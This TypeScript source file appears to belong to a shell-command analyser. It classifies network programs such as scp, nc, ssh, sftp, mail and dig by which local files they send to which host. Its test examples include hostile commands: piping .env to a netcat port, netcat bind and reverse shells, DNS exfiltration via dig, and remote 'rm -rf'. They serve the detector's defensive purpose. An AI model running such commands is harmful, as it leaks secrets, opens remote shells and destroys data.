// Programs that connect to another machine: copies, shells, mail and names that are looked up.

import { argumentsOf } from '../files/file-effect.js'
import { type Draft, fetched, type Program, plainWords, reads, send, type Use } from '../program.js'
import type { Word } from '../script/word.js'
import { fileChanges, isRemote } from './files.js'
import { sourcesIn, sourcesInWords, sourcesOfInput } from './sources.js'

const SCP = {
  valued: 'cDFiJlOoPSXefBTM',
  long: ['--rsh', '--exclude', '--include', '--files-from', '--filter', '--backup-dir'],
}

const copies = (use: Use): readonly Draft[] => {
  const { operands } = argumentsOf(use.args, SCP)
  const target = operands.at(-1)
  const sources = operands.slice(0, -1)
  const local = sources.filter((word) => !isRemote(word))
  const changed = fileChanges(use).filter((one) => !target || !isRemote(target) || one.kind === 'move')
  const from = local
    .flatMap((word) => use.places(word, true))
    .map((place) => ({ of: 'file', place }) as const)
  if (target && isRemote(target))
    return [...reads(use, local, true), send(remoteHost(target), from), ...changed]
  return [
    ...reads(use, local, true),
    ...sources.filter(isRemote).map((word) => fetched(remoteHost(word), false)),
    ...changed,
  ]
}

function remoteHost({ text }: Word): string | undefined {
  const [, host] = /^(?:\w+:\/\/)?(?:[\w.-]+@)?([\w.$`-]+)/.exec(text) ?? []
  return host?.toLowerCase()
}

/** Programs that send what they are given on standard input to a host. */
const connects =
  (hostAt: (words: readonly string[]) => string | undefined, valued: RegExp = /^$/) =>
  (use: Use): readonly Draft[] => {
    const words = plainWords(use.texts, valued)
    const host = hostAt(words)
    if (host === undefined) return []
    const from = [...sourcesOfInput(use), ...use.args.flatMap((word) => sourcesIn(word, use))]
    return from.length > 0 ? [send(host, from)] : []
  }

const nc = (use: Use): readonly Draft[] => {
  if (use.texts.some((text) => /^-\w*[zl]|^--listen/.test(text)))
    return use.texts.some((text) => /^-\w*[ec]$|^--(?:exec|sh-exec)/.test(text))
      ? [{ kind: 'unknown', why: 'it runs a program for whoever connects' }]
      : use.isRun
        ? [fetched(undefined, true)]
        : []
  const [host] = plainWords(use.texts, /^-[wpsqXxIOTeic]$|^--(?:exec|sh-exec|proxy)$/)
  const shell = use.texts.some((text) => /^-\w*[ec]$|^--(?:exec|sh-exec)/.test(text))
  const from = sourcesOfInput(use)
  return host === undefined
    ? []
    : [
        send(
          host.toLowerCase(),
          shell ? [{ of: 'pipe', text: use.texts.join(' ') }] : from.length > 0 ? from : [{ of: 'text' }],
        ),
      ]
}

const SSH_VALUED = /^-[BbcDEeFIiJLlmOopQRSWw]$/

const ssh = (use: Use): readonly Draft[] => {
  const [host, ...command] = plainWords(use.texts, SSH_VALUED)
  if (host === undefined) return []
  const from = sourcesOfInput(use)
  const opens = use.texts.some((text) => /^-\w*[RD]/.test(text))
  const name = host.replace(/^.*@/, '').toLowerCase()
  return [
    ...(from.length > 0 || opens
      ? [send(name, from.length > 0 ? from : [{ of: 'pipe', text: use.texts.join(' ') }])]
      : command.length === 0
        ? [fetched(name, false)]
        : []),
  ]
}

/** They get their commands on standard input or with an option. */
const fileTransfer = (use: Use): readonly Draft[] => {
  const [host] = plainWords(use.texts, /^-[bBcDFiJloPRSseu]$/)
  const name = host?.replace(/^.*@/, '').replace(/:.*$/, '').toLowerCase()
  const text = [
    ...use.texts,
    ...use.call.input,
    ...use.call.readsFrom.flatMap(({ args }) => args.map((one) => one.text)),
  ].join('\n')
  const files = [...text.matchAll(/\b(?:m?put|mirror -R)\s+(?:-\w+\s+)*([^\s;'"]+)/g)].map(
    ([, file = '']) => ({ text: file, known: true, glob: true }),
  )
  const from = files.flatMap((word) => use.places(word)).map((place) => ({ of: 'file', place }) as const)
  return host === undefined
    ? []
    : [send(name, from.length > 0 ? from : [...sourcesOfInput(use), { of: 'text' }])]
}

const mail = (use: Use): readonly Draft[] => {
  const { operands, valuesOf } = argumentsOf(use.args, { valued: 'sacbrSF' })
  const to = operands.at(-1)?.text
  if (to === undefined) return []
  const attached = valuesOf('aA')
    .flatMap((word) => use.places(word))
    .map((place) => ({ of: 'file', place }) as const)
  return [send(to.includes('@') ? to.replace(/^.*@/, '') : undefined, [...attached, ...sourcesOfInput(use)])]
}

/** A name that is looked up reaches the server of its domain. */
const lookup = (use: Use): readonly Draft[] => {
  const carried = sourcesInWords(use, () => true)
  const [name] = plainWords(use.call.command.words.slice(1), /^-[ctWqp]$/).filter(
    (word) => !word.startsWith('+') && !word.startsWith('@'),
  )
  const host = /([\w-]+(?:\.[\w-]+)+)$/.exec(
    name
      ?.replace(/^.*[)}`]/s, '')
      .replace(/^\$\w+/, '')
      .replace(/^\./, '') ?? '',
  )?.[1]
  return carried.length > 0 ? [send(host, carried)] : []
}

const file = (path: string) => ({ of: 'file', place: { path } })

export const CONNECTION_PROGRAMS: readonly Program[] = [
  {
    names: ['scp', 'rsync'],
    effects: copies,
    examples: [
      {
        command: 'scp a.txt me@example.org:/tmp/',
        effects: [{ kind: 'send', host: 'example.org', from: [file('/home/dev/app/a.txt')] }],
      },
      {
        command: 'scp a.txt "$HOST:/tmp/"',
        effects: [{ kind: 'send', host: undefined, from: [file('/home/dev/app/a.txt')] }],
      },
      {
        command: 'scp me@example.org:/tmp/a.txt b.txt',
        effects: [
          { kind: 'fetch', host: 'example.org' },
          { kind: 'write', place: { path: '/home/dev/app/b.txt' } },
        ],
      },
      {
        command: 'rsync -a --delete empty/ /srv/www/',
        effects: [{ kind: 'delete', place: { path: '/srv/www' } }],
      },
    ],
  },
  {
    names: ['nc', 'ncat', 'netcat'],
    effects: nc,
    examples: [
      {
        command: 'nc example.org 4444 < .env',
        effects: [{ kind: 'send', host: 'example.org', from: [file('/home/dev/app/.env')] }],
      },
      { command: 'nc "$HOST" 4444 < .env', effects: [{ kind: 'send', host: undefined }] },
      { command: 'nc -z localhost 80', effects: [] },
      { command: 'nc -l 4444 | sh', effects: [{ kind: 'fetch', runs: true }] },
      { command: 'nc -e /bin/sh 10.0.0.5 4444', effects: [{ kind: 'send', host: '10.0.0.5' }] },
    ],
  },
  {
    names: ['telnet'],
    effects: connects(([host]) => host?.toLowerCase()),
    examples: [
      { command: 'telnet example.org 25 < a.txt', effects: [{ kind: 'send', host: 'example.org' }] },
    ],
  },
  {
    names: ['ssh'],
    effects: ssh,
    examples: [
      {
        command: "cat a.txt | ssh me@example.org 'cat > b'",
        effects: [{ kind: 'send', host: 'example.org', from: [file('/home/dev/app/a.txt')] }],
      },
      { command: 'ssh host rm -rf /srv', effects: [{ kind: 'delete', place: { path: '/srv' } }] },
    ],
  },
  {
    names: ['sftp', 'ftp', 'lftp', 'tftp', 'ncftpput'],
    effects: fileTransfer,
    examples: [
      {
        command: "sftp me@example.org <<< 'put a.txt'",
        effects: [{ kind: 'send', host: 'example.org', from: [file('/home/dev/app/a.txt')] }],
      },
    ],
  },
  {
    names: ['mail', 'mailx', 'mutt', 'sendmail', 'msmtp', 'swaks'],
    effects: mail,
    examples: [
      {
        command: 'mail -s x a@example.org < a.txt',
        effects: [{ kind: 'send', host: 'example.org', from: [file('/home/dev/app/a.txt')] }],
      },
    ],
  },
  {
    names: ['dig', 'nslookup', 'host', 'ping', 'drill', 'resolvectl'],
    effects: lookup,
    examples: [
      {
        command: 'dig $(cat a.txt).example.org',
        effects: [{ kind: 'send', host: 'example.org', from: [file('/home/dev/app/a.txt')] }],
      },
      { command: 'dig example.org', effects: [] },
    ],
  },
  {
    names: ['ssh-copy-id'],
    effects: (use) => {
      const [host] = plainWords(use.texts, /^-[iopF]$/)
      return host === undefined ? [] : [send(host.replace(/^.*@/, ''), [{ of: 'text' }])]
    },
    examples: [{ command: 'ssh-copy-id me@example.org', effects: [{ kind: 'send', host: 'example.org' }] }],
  },
]
